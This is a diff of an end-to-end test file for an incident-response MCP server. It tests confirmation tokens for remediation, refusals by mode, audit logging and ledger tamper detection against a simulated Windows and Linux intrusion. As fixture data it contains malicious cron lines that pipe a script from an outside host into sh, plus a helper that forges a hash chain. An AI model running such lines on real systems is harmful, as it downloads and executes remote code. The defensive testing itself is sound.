@@ -2,14 +2,15 @@
  * Analysis, triage and response end to end: the built MCP server over stdio against the test server loaded with the
  * incident fixture (a Windows + Linux intrusion with endpoint state for the remediation artifacts).
  */
-import { existsSync, mkdtempSync, readFileSync } from "node:fs";
+import { createHash } from "node:crypto";
+import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { packageRoot } from "../../core/paths.js";
 import { findChromium } from "../../dfir/reports/pdf.js";
 import { startTestServer, type TestServer } from "../../test-server/index.js";
-import { call, startMcp, type StartedMcp } from "../helpers/mcp.js";
+import { call, confirmed, startMcp, type StartedMcp } from "../helpers/mcp.js";
 
 const FIN = "C.1a2b3c4d5e6f7a01";
 const HR = "C.1a2b3c4d5e6f7a02";
@@ -25,6 +26,7 @@ let readOnly: StartedMcp;
 let investigate: StartedMcp;
 let evidence: string;
 let cases: string;
+let sharedEnv: Record<string, string>;
 
 const endpoint = (client: string) => vr.model.org("root")!.clients.get(client)!.endpoint!;
 
@@ -34,7 +36,7 @@ beforeAll(async () => {
   evidence = mkdtempSync(join(tmpdir(), "mr-i3-evidence-"));
   cases = mkdtempSync(join(tmpdir(), "mr-i3-cases-"));
   // The three servers share the case ledgers, so they share the key that signs them (as they would in one ~/.megaraptor).
-  const env = { MEGARAPTOR_EVIDENCE_DIR: evidence, MEGARAPTOR_CASES_DIR: cases, MEGARAPTOR_TEMPLATE_DIR: join(cases, "no-templates"), MEGARAPTOR_KEYS_DIR: mkdtempSync(join(tmpdir(), "mr-i3-keys-")) };
+  const env = (sharedEnv = { MEGARAPTOR_EVIDENCE_DIR: evidence, MEGARAPTOR_CASES_DIR: cases, MEGARAPTOR_TEMPLATE_DIR: join(cases, "no-templates"), MEGARAPTOR_KEYS_DIR: mkdtempSync(join(tmpdir(), "mr-i3-keys-")) });
   [respond, readOnly, investigate] = await Promise.all([
     startMcp({ args: ["--config", config, "--mode", "respond"], env }),
     startMcp({ args: ["--config", config, "--read-only"], env }),
@@ -197,34 +199,43 @@ describe("triage and collection", () => {
 });
 
 describe("response: refusals", () => {
-  it("read-only and investigate modes neither list nor run remediation tools", async () => {
+  it("read-only and investigate modes neither list nor run remediation tools, and say MODE_FORBIDDEN (audited)", async () => {
     for (const m of [readOnly, investigate]) {
       const names = (await m.client.listTools()).tools.map((t) => t.name);
       for (const t of ["remediate_file", "kill_process", "remove_persistence", "rollback_change"]) expect(names).not.toContain(t);
       expect(names).toContain("list_changes");
-      const r = await call(m.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", confirm: true, reason: "test" });
-      // Hidden tools cannot be called at all: the SDK answers that the tool does not exist.
-      expect(r.ok).toBe(false);
-      expect(r.text).toMatch(/remediate_file not found/);
+      const r = await call(m.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", reason: "test" });
+      // A hidden tool is refused for what it is (not reported as unknown), and the refusal is on record.
+      expect(r.error).toMatchObject({ code: "MODE_FORBIDDEN", hint: expect.stringContaining("--mode respond") });
+      const audit = readFileSync(m.auditPath, "utf8").trim().split("\n").map((l) => JSON.parse(l));
+      expect(audit.filter((e) => e.tool === "remediate_file" && e.outcome === "refused" && e.error.code === "MODE_FORBIDDEN")).toHaveLength(1);
     }
     expect(endpoint(FIN).files[EVIL]).toBeDefined();
   });
 
-  it("refuses a real change without confirm=true and a reason, showing the plan, and touches nothing", async () => {
+  it("answers a real change with a plan and confirm_token, refuses the token without a reason, and touches nothing", async () => {
     const flowsBefore = vr.model.org("root")!.flows.size;
-    const noConfirm = await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", reason: "beacon" });
-    expect(noConfirm.error).toMatchObject({ code: "CONFIRMATION_REQUIRED", plan: { summary: `quarantine ${EVIL} on WKS-FIN-01 (${FIN})`, details: { parameters: { Action: "quarantine", DryRun: "N" } } } });
-    const noReason = await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", confirm: true });
+    const args = { client_id: FIN, path: EVIL, case_id: "IR-TEST" };
+    const plan = await call(respond.client, "remediate_file", args);
+    expect(plan.error).toMatchObject({ code: "CONFIRMATION_REQUIRED", reason_required: true, confirm_token: expect.any(String), plan: { summary: `quarantine ${EVIL} on WKS-FIN-01 (${FIN})`, details: { parameters: { Action: "quarantine", DryRun: "N" } } } });
+    // The old confirm flag authorises nothing: without the token it is just another plan.
+    expect((await call(respond.client, "remediate_file", { ...args, confirm: true, reason: "beacon" })).error?.code).toBe("CONFIRMATION_REQUIRED");
+    const noReason = await call(respond.client, "remediate_file", { ...args, confirm_token: plan.error!.confirm_token });
     expect(noReason.error?.message).toMatch(/needs a reason/);
     expect(vr.model.org("root")!.flows.size).toBe(flowsBefore);
-    const critical = await call(respond.client, "kill_process", { client_id: FIN, name: "lsass.exe", case_id: "IR-TEST", confirm: true, reason: "x x" });
+    const critical = await call(respond.client, "kill_process", { client_id: FIN, name: "lsass.exe", case_id: "IR-TEST" });
     expect(critical.error?.message).toMatch(/^name: lsass.exe is a critical system process/);
     const system = await call(respond.client, "remediate_file", { client_id: FIN, path: "C:\\Windows\\System32\\services.exe", case_id: "IR-TEST", dry_run: true });
     expect(system.error?.message).toMatch(/system folder/);
     const wrongOs = await call(respond.client, "remove_persistence", { client_id: FIN, kind: "cron", target: "/etc/crontab", value_name: "x", case_id: "IR-TEST", dry_run: true });
     expect(wrongOs.error?.message).toMatch(/^kind: cron exists on linux clients/);
     const audit = readFileSync(respond.auditPath, "utf8").trim().split("\n").map((l) => JSON.parse(l));
-    expect(audit.filter((e) => e.tool === "remediate_file" && e.outcome === "refused" && e.case === "IR-TEST")).toHaveLength(2);
+    expect(audit.filter((e) => e.tool === "remediate_file" && e.outcome === "planned" && e.case === "IR-TEST")).toHaveLength(2);
+    expect(audit.filter((e) => e.tool === "remediate_file" && e.outcome === "refused" && e.case === "IR-TEST")).toHaveLength(1);
+    // The dry run in a system folder was an attempt: its intent is on record, closed by the error.
+    const intents = audit.filter((e) => e.tool === "remediate_file" && e.outcome === "intent");
+    expect(intents).toHaveLength(1);
+    expect(audit.find((e) => e.intent === intents[0].seq)).toMatchObject({ outcome: "error", error: { code: "INVALID_INPUT" } });
   });
 });
 
@@ -247,12 +258,12 @@ describe("response: dry run, change, ledger, rollback", () => {
   });
 
   it("quarantines with confirm + reason, records the before-state, and rolls back exactly once", async () => {
-    const wrong = await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", confirm: true, reason: "beaconing to 185.220.101.4", expected_sha256: "0".repeat(63) + "1" });
+    const wrong = await confirmed(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", expected_sha256: "0".repeat(63) + "1" }, "beaconing to 185.220.101.4");
     expect(wrong.structured!.rows[0].Result).toBe("hash mismatch");
     expect(wrong.structured!.ledger[0]).toMatchObject({ seq: 1, result: "failed", rollback_possible: false });
     expect(endpoint(FIN).files[EVIL]).toBeDefined();
 
-    const r = await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", confirm: true, reason: "beaconing to 185.220.101.4", expected_sha256: EVIL_SHA });
+    const r = await confirmed(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", expected_sha256: EVIL_SHA }, "beaconing to 185.220.101.4");
     if (!r.ok) throw new Error(r.text);
     expect(r.structured!.ledger[0]).toMatchObject({ seq: 2, action: "quarantine_file", result: "ok", rollback_possible: true });
     expect(endpoint(FIN).files[EVIL]).toBeUndefined();
@@ -265,30 +276,30 @@ describe("response: dry run, change, ledger, rollback", () => {
 
     const dry = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2, dry_run: true });
     expect(dry.structured!.rows[0].Result).toBe(`would restore ${qpath}`);
-    const back = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2, confirm: true, reason: "false positive per user" });
+    const back = await confirmed(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2 }, "false positive per user");
     expect(back.structured!.ledger[0]).toMatchObject({ action: "rollback", result: "ok" });
     expect(endpoint(FIN).files[EVIL]).toBe("MZ-evil-payload-upd");
-    const again = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2, confirm: true, reason: "again" });
+    const again = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2 });
     expect(again.error?.message).toMatch(/already rolled back by #3/);
   });
 
   it("kills by pid (not reversible) and removes and restores a Run key and a cron line", async () => {
     const dry = await call(respond.client, "kill_process", { client_id: FIN, pid: 5012, case_id: "IR-TEST", dry_run: true });
     expect(dry.structured!.rows[0]).toMatchObject({ Name: "upd.exe", Result: "would kill", Changed: false });
-    const kill = await call(respond.client, "kill_process", { client_id: FIN, pid: 5012, case_id: "IR-TEST", confirm: true, reason: "active beacon" });
+    const kill = await confirmed(respond.client, "kill_process", { client_id: FIN, pid: 5012, case_id: "IR-TEST" }, "active beacon");
     expect(kill.structured!.ledger[0]).toMatchObject({ action: "kill_process", result: "ok", rollback_possible: false });
     expect(endpoint(FIN).processes.map((p) => p.Pid)).toEqual([700]);
-    const noRollback = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: kill.structured!.ledger[0].seq, confirm: true, reason: "x x x" });
+    const noRollback = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: kill.structured!.ledger[0].seq });
     expect(noRollback.error?.message).toMatch(/cannot be rolled back/);
 
-    const rm = await call(respond.client, "remove_persistence", { client_id: FIN, kind: "run_key", target: RUN_KEY, value_name: "Updater", case_id: "IR-TEST", confirm: true, reason: "malware persistence" });
+    const rm = await confirmed(respond.client, "remove_persistence", { client_id: FIN, kind: "run_key", target: RUN_KEY, value_name: "Updater", case_id: "IR-TEST" }, "malware persistence");
     expect(rm.structured!.rows[0]).toMatchObject({ Changed: true, Before: { data: `${EVIL} --silent` } });
     expect(endpoint(FIN).registry[RUN_KEY]).toEqual({ OneDrive: expect.any(String) });
-    await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: rm.structured!.ledger[0].seq, confirm: true, reason: "restore for imaging" });
+    await confirmed(respond.client, "rollback_change", { case_id: "IR-TEST", seq: rm.structured!.ledger[0].seq }, "restore for imaging");
     expect(endpoint(FIN).registry[RUN_KEY]!.Updater).toBe(`${EVIL} --silent`);
 
     const line = "*/5 * * * * curl -s http://185.220.101.4/k.sh | sh";
-    const cron = await call(respond.client, "remove_persistence", { client_id: WEB, kind: "cron", target: "/var/spool/cron/crontabs/www-data", value_name: line, case_id: "IR-TEST", confirm: true, reason: "miner" });
+    const cron = await confirmed(respond.client, "remove_persistence", { client_id: WEB, kind: "cron", target: "/var/spool/cron/crontabs/www-data", value_name: line, case_id: "IR-TEST" }, "miner");
     expect(cron.structured!.ledger[0].rollback_possible).toBe(true);
     expect(endpoint(WEB).cron["/var/spool/cron/crontabs/www-data"]).toEqual(["0 3 * * * /usr/local/bin/backup.sh"]);
   });
@@ -297,7 +308,7 @@ describe("response: dry run, change, ledger, rollback", () => {
     const before = vr.model.flowCompletionMs;
     vr.model.flowCompletionMs = 60_000;
     try {
-      const r = await call(respond.client, "kill_process", { client_id: WEB, name: "kworker", case_id: "IR-SLOW", confirm: true, reason: "miner", wait_timeout: 10 });
+      const r = await confirmed(respond.client, "kill_process", { client_id: WEB, name: "kworker", case_id: "IR-SLOW", wait_timeout: 10 }, "miner");
       expect(r.structured!.state).toBe("RUNNING");
       expect(r.structured!.errors[0]).toMatch(/is RUNNING after 10s; check it with get_flow_status/);
       expect(r.structured!.ledger[0]).toMatchObject({ result: "partial", rollback_possible: false });
@@ -357,5 +368,63 @@ describe("response: dry run, change, ledger, rollback", () => {
     const report = listed.find((u) => /report-IR-TEST.*\.md$/.test(u))!;
     const md = await readOnly.client.readResource({ uri: report });
     expect(md.contents[0]).toMatchObject({ mimeType: "text/markdown", text: expect.stringContaining("# WKS-FIN-01 intrusion") });
+  });
+});
+
+/** What an attacker without the key can do to a ledger: edit entries and recompute every plain SHA-256 in the chain. */
+function rehash(path: string, edit: (entries: Record<string, any>[]) => Record<string, any>[]): void {
+  let prev = "0".repeat(64);
+  const entries = edit(readFileSync(path, "utf8").trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, any>));
+  const lines = entries.map((e) => {
+    const { hash: _h, mac, ...body } = e;
+    body.prev = prev;
+    prev = createHash("sha256").update(JSON.stringify(body)).digest("hex");
+    return JSON.stringify({ ...body, hash: prev, mac });
+  });
+  writeFileSync(path, lines.join("\n") + "\n");
+}
+
+describe("response: ledger integrity", () => {
+  it("six parallel kill_process calls on one case from two server processes leave one valid ledger with six entries", { timeout: 120_000 }, async () => {
+    const second = await startMcp({ args: ["--config", vr.writeApiClientYaml(mkdtempSync(join(tmpdir(), "mr-i3-2-"))), "--mode", "respond"], env: sharedEnv });
+    try {
+      const kill = (m: StartedMcp, pid: number) => confirmed(m.client, "kill_process", { client_id: WEB, pid, case_id: "IR-PAR" }, "parallel containment");
+      const results = await Promise.all([60001, 60002, 60003, 60004, 60005, 60006].map((pid, i) => kill(i % 2 ? second : respond, pid)));
+      for (const r of results) expect(r.ok, r.text).toBe(true);
+      const changes = await call(readOnly.client, "list_changes", { case_id: "IR-PAR" });
+      expect(changes.structured).toMatchObject({ verified: true });
+      expect(changes.structured!.changes.map((c: { seq: number }) => c.seq)).toEqual([1, 2, 3, 4, 5, 6]);
+      expect(changes.structured!.changes.every((c: { reason: string }) => c.reason === "parallel containment")).toBe(true);
+    } finally {
+      await second.close();
+    }
+  });
+
+  it("refuses to roll back an entry whose rollback parameters were edited and re-hashed, and reports a truncated ledger", async () => {
+    const backup = "0 3 * * * /usr/local/bin/backup.sh";
+    const crontab = "/var/spool/cron/crontabs/www-data";
+    const rm = await confirmed(respond.client, "remove_persistence", { client_id: WEB, kind: "cron", target: crontab, value_name: backup, case_id: "IR-FORGE" }, "test of tampering");
+    expect(rm.structured!.ledger[0]).toMatchObject({ seq: 1, rollback_possible: true });
+    await confirmed(respond.client, "kill_process", { client_id: WEB, pid: 60010, case_id: "IR-FORGE" }, "second entry");
+    const path = join(cases, "IR-FORGE", "ledger.jsonl");
+    const original = readFileSync(path, "utf8");
+
+    const evil = "* * * * * curl -s http://203.0.113.9/x | sh";
+    rehash(path, (es) => {
+      es[0]!.rollback.parameters.ValueName = evil;
+      return es;
+    });
+    const forged = await call(respond.client, "rollback_change", { case_id: "IR-FORGE", seq: 1 });
+    expect(forged.error).toMatchObject({ code: "LEDGER_TAMPERED", message: expect.stringMatching(/line 1: .*MAC/) });
+    expect(endpoint(WEB).cron[crontab]).not.toContain(evil);
+
+    writeFileSync(path, original.trimEnd().split("\n").slice(0, 1).join("\n") + "\n");
+    const truncated = await call(readOnly.client, "list_changes", { case_id: "IR-FORGE" });
+    expect(truncated.error).toMatchObject({ code: "LEDGER_TAMPERED", message: expect.stringMatching(/checkpoint records 2 entries/) });
+    // A remediation on a case whose ledger does not verify never reaches the endpoint.
+    const flowsBefore = vr.model.org("root")!.flows.size;
+    const blocked = await confirmed(respond.client, "kill_process", { client_id: WEB, pid: 60011, case_id: "IR-FORGE" }, "must not run");
+    expect(blocked.error?.code).toBe("LEDGER_TAMPERED");
+    expect(vr.model.org("root")!.flows.size).toBe(flowsBefore);
   });
 });
